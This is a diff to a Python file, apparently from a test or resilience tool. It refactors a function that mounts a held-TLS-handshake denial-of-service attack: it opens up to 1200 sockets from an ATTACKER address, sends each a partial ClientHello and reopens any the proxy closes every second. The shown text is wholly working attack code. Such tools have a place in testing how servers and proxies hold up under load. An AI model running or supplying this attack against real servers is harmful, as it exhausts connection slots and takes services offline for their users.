@@ -280,10 +280,28 @@ def partial_client_hello() -> bytes:
     return bytes((0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03)) + os.urandom(16)
 
 
+def held_handshake(target: str, timeout: float = 5.0) -> socket.socket:
+    """A connection from :data:`ATTACKER` that sends part of a ClientHello and nothing
+    more (the send may fail: a proxy may close it at once). OSError if it cannot connect."""
+    host, port = host_port(target)
+    s = socket.socket()
+    try:
+        s.bind((ATTACKER, 0))
+        s.settimeout(timeout)
+        s.connect((host, port))
+    except OSError:
+        s.close()
+        raise
+    try:
+        s.sendall(partial_client_hello())
+    except OSError:
+        pass  # already closed by the peer
+    return s
+
+
 def attack_held_tls_handshakes(target: str, stop: threading.Event, sockets: int = 1200) -> None:
     """``sockets`` connections that each send part of a ClientHello and nothing more; the
     ones the proxy closed are opened again every second."""
-    host, port = host_port(target)
     held: List[socket.socket] = []
     while not stop.is_set():
         held = [s for s in held if not closed_by_peer(s) or s.close()]
@@ -291,14 +309,9 @@ def attack_held_tls_handshakes(target: str, stop: threading.Event, sockets: int 
             if stop.is_set():
                 break
             try:
-                s = socket.socket()
-                s.bind((ATTACKER, 0))
-                s.settimeout(5)
-                s.connect((host, port))
-                s.sendall(partial_client_hello())
-                held.append(s)
+                held.append(held_handshake(target))
             except OSError:
-                s.close()
+                pass
         stop.wait(1.0)
     for s in held:
         s.close()
